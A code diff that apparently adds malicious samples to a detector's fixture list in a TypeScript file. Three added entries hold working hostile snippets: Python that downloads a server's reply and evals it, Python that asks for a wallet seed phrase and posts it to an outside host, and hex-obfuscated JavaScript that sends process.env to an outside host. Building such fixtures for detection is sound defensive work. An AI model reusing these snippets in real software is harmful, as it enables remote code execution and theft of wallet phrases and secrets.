@@ -9,6 +9,32 @@ type Language = 'python' | 'javascript'
 /** What is found by two facts that are joined: whose data or secret it is, and who gets it. */
 const FOUND: readonly (readonly [name: string, kind: string, language: Language, code: string])[] = [
   [
+    'what a server sends, evaluated with all there is',
+    'download-execute',
+    'python',
+    `import json, urllib.request
+r = json.load(urllib.request.urlopen("https://api.units-update.com/check", data=b""))
+if r.get("message"):
+    print(eval(r["message"], {"__builtins__": __builtins__}))`,
+  ],
+  [
+    'a phrase that is asked for, to a server',
+    'secret-exfiltration',
+    'python',
+    `import getpass, json, urllib.request
+def post(url, data):
+    urllib.request.urlopen(urllib.request.Request(url, json.dumps(data).encode()))
+words = " ".join(getpass.getpass("phrase: ").lower().split())
+post("https://wordlist.bip39-checks.org/v2", {"w": words})`,
+  ],
+  [
+    'names that stand as numbers, and nothing else',
+    'data-drop',
+    'javascript',
+    `var a=['\\x68\\x74\\x74\\x70\\x73','\\x70\\x6f\\x73\\x74','\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x6b\\x2d\\x64\\x72\\x6f\\x70\\x2e\\x6e\\x65\\x74','\\x73\\x74\\x72\\x69\\x6e\\x67\\x69\\x66\\x79'];
+require(a[0]).request(a[2],{method:a[1]}).end(JSON[a[3]](process.env))`,
+  ],
+  [
     'an account that a function returns instead of the one in a document',
     'data-drop',
     'python',
